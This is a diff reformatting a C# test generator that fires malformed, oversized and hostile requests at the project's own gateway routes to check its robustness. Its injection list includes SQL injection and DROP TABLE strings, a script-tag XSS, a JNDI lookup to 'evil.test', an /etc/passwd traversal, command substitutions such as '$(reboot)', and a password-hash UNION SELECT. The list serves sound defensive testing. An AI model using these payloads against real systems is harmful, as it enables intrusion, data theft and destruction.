@@ -6,7 +6,8 @@ namespace FlexWhere.Reliability.Tests.Stack;
 
 /// <summary>A public route through the Gateway: method, path template ({id} is filled in), who may
 /// call it, and a well-formed body the generator spoils (null: the route takes no JSON body).</summary>
-public sealed record PublicRoute(HttpMethod Method, string Template, RouteCaller Caller, Func<JsonObject>? Body = null, string? ContentType = null);
+public sealed record PublicRoute(HttpMethod Method, string Template, RouteCaller Caller, Func<JsonObject>? Body = null,
+    string? ContentType = null);
 
 public enum RouteCaller { Anonymous, User, Admin }
 
@@ -44,19 +45,23 @@ public sealed record BadRequest(string Kind, HttpMethod Method, string Path, str
 public sealed class BadRequestGenerator(Random random, IReadOnlyList<PublicRoute> routes, BadRequestGenerator.Identities identities)
 {
     /// <summary>The tokens and ids the generator may use; the valid ones get requests past the authentication layer.</summary>
-    public sealed record Identities(string UserToken, string AdminToken, string ForgedToken, string ExpiredToken, Guid OwnUserId, Guid SacrificialUserId, Guid OtherOrganisationUserId);
+    public sealed record Identities(string UserToken, string AdminToken, string ForgedToken, string ExpiredToken, Guid OwnUserId,
+        Guid SacrificialUserId, Guid OtherOrganisationUserId);
 
     public static readonly string[] Injections =
     [
         "' OR '1'='1' --", "\"; DROP TABLE users; --", "<script>alert(1)</script>", "${jndi:ldap://evil.test/a}",
-        "../../../../etc/passwd", "%00", "\u0000", "{{7*7}}", "$(reboot)", "`id`", "\\u0000\\n", "admin@demo.flexwhere.test\r\nX-Injected: 1",
+        "../../../../etc/passwd", "%00", "\u0000", "{{7*7}}", "$(reboot)", "`id`", "\\u0000\\n",
+            "admin@demo.flexwhere.test\r\nX-Injected: 1",
         "𝓯𝓵𝓮𝔁", "\u202Eevil", "' UNION SELECT \"PasswordHash\" FROM users --", "*)(uid=*))(|(uid=*", "null", "undefined", "NaN",
     ];
 
     public static readonly string[] OddPhones =
     [
-        "", "+", "++31612345678", "0031612345678", "+31 (0)6-1234 5678", "+999999999999999999999", "٠٦١٢٣٤٥٦٧٨", "+31612345678;ext=1",
-        "+31612345678\u0000", "tel:+31612345678", "+1-800-FLOWERS", "📞", "+3161234567890123456789", "-31612345678", "+0612345678", "612345678",
+        "", "+", "++31612345678", "0031612345678", "+31 (0)6-1234 5678", "+999999999999999999999", "٠٦١٢٣٤٥٦٧٨",
+            "+31612345678;ext=1",
+        "+31612345678\u0000", "tel:+31612345678", "+1-800-FLOWERS", "📞", "+3161234567890123456789", "-31612345678", "+0612345678",
+            "612345678",
         "+31 6 •••• ••78", "+44 7700 900000", "+882 123456789",
     ];
 
@@ -74,7 +79,8 @@ public sealed class BadRequestGenerator(Random random, IReadOnlyList<PublicRoute
         if (route.Body is null)
         {
             return random.Next(3) == 0
-                ? new BadRequest($"{kind}+unexpected-body", route.Method, path, token, Encoding.UTF8.GetBytes(Injections[random.Next(Injections.Length)]), "application/json")
+                ? new BadRequest($"{kind}+unexpected-body", route.Method, path, token,
+                    Encoding.UTF8.GetBytes(Injections[random.Next(Injections.Length)]), "application/json")
                 : new BadRequest(kind, route.Method, path, token, null, null);
         }
 
@@ -88,7 +94,8 @@ public sealed class BadRequestGenerator(Random random, IReadOnlyList<PublicRoute
         var roll = random.Next(10);
         if (route.Caller == RouteCaller.Anonymous || roll < 6)
         {
-            var valid = route.Caller == RouteCaller.Admin ? identities.AdminToken : route.Caller == RouteCaller.User ? identities.UserToken : null;
+            var valid = route.Caller == RouteCaller.Admin ? identities.AdminToken : route.Caller == RouteCaller.User ? identities.UserToken
+                : null;
             return ("valid-caller", valid is null ? null : $"Bearer {valid}");
         }
 
@@ -106,8 +113,10 @@ public sealed class BadRequestGenerator(Random random, IReadOnlyList<PublicRoute
         if (!route.Template.Contains("{id}", StringComparison.Ordinal)) return "";
         string[] ids =
         [
-            Guid.NewGuid().ToString(), identities.OtherOrganisationUserId.ToString(), identities.SacrificialUserId.ToString(), "not-a-guid", "0",
-            "%2e%2e%2f%2e%2e%2fhealth", Uri.EscapeDataString(Injections[random.Next(Injections.Length)]), new string('9', 3000), "00000000-0000-0000-0000-000000000000",
+            Guid.NewGuid().ToString(), identities.OtherOrganisationUserId.ToString(), identities.SacrificialUserId.ToString(), "not-a-guid",
+                "0",
+            "%2e%2e%2f%2e%2e%2fhealth", Uri.EscapeDataString(Injections[random.Next(Injections.Length)]), new string('9', 3000),
+                "00000000-0000-0000-0000-000000000000",
         ];
         var index = random.Next(ids.Length);
         kind += $"+id{index}";
@@ -142,7 +151,11 @@ public sealed class BadRequestGenerator(Random random, IReadOnlyList<PublicRoute
                 return ("extra-fields", Bytes(json), contentType);
             }
             case 3: // a huge body
-                return ("huge-body", Encoding.UTF8.GetBytes($"{{\"{(keys.Length > 0 ? keys[0] : "x")}\":\"{new string('x', random.Next(70_000, 3_000_000))}\"}}"), contentType);
+            {
+                var key = keys.Length > 0 ? keys[0] : "x";
+                var value = new string('x', random.Next(70_000, 3_000_000));
+                return ("huge-body", Encoding.UTF8.GetBytes($"{{\"{key}\":\"{value}\"}}"), contentType);
+            }
             case 4: // deep JSON
             {
                 var depth = random.Next(65, 20_000);
@@ -159,7 +172,8 @@ public sealed class BadRequestGenerator(Random random, IReadOnlyList<PublicRoute
             }
             case 6: // injection strings in every string field
             {
-                foreach (var key in keys.Where(key => json[key] is JsonValue value && value.GetValueKind() == System.Text.Json.JsonValueKind.String))
+                foreach (var key in keys.Where(key => json[key] is JsonValue value
+                    && value.GetValueKind() == System.Text.Json.JsonValueKind.String))
                 {
                     json[key] = Injections[random.Next(Injections.Length)];
                 }
@@ -169,16 +183,20 @@ public sealed class BadRequestGenerator(Random random, IReadOnlyList<PublicRoute
             }
             case 7: // odd phone numbers wherever a phone could go
             {
-                var key = keys.FirstOrDefault(key => key.Contains("phone", StringComparison.OrdinalIgnoreCase)) ?? (keys.Length > 0 ? keys[random.Next(keys.Length)] : "phone");
+                var key = keys.FirstOrDefault(key => key.Contains("phone", StringComparison.OrdinalIgnoreCase))
+                    ?? (keys.Length > 0 ? keys[random.Next(keys.Length)] : "phone");
                 json[key] = OddPhones[random.Next(OddPhones.Length)];
                 return ("odd-phone", Bytes(json), contentType);
             }
             case 8: // not JSON at all
-                return ("not-json", Encoding.UTF8.GetBytes(random.Next(2) == 0 ? "email=a&password=b" : "{\"unterminated\": \"x"), contentType);
+                return ("not-json", Encoding.UTF8.GetBytes(random.Next(2) == 0 ? "email=a&password=b" : "{\"unterminated\": \"x"),
+                    contentType);
             case 9: // the wrong content type
-                return ("wrong-content-type", Bytes(json), random.Next(3) switch { 0 => "text/plain", 1 => "application/x-www-form-urlencoded", _ => "application/xml" });
+                return ("wrong-content-type", Bytes(json),
+                    random.Next(3) switch { 0 => "text/plain", 1 => "application/x-www-form-urlencoded", _ => "application/xml" });
             case 10: // JSON of the wrong shape
-                return ("wrong-shape", Encoding.UTF8.GetBytes(random.Next(3) switch { 0 => "[]", 1 => "\"just a string\"", _ => "12345" }), contentType);
+                return ("wrong-shape", Encoding.UTF8.GetBytes(random.Next(3) switch { 0 => "[]", 1 => "\"just a string\"", _ => "12345" }),
+                    contentType);
             default: // empty body
                 return ("empty-body", [], contentType);
         }
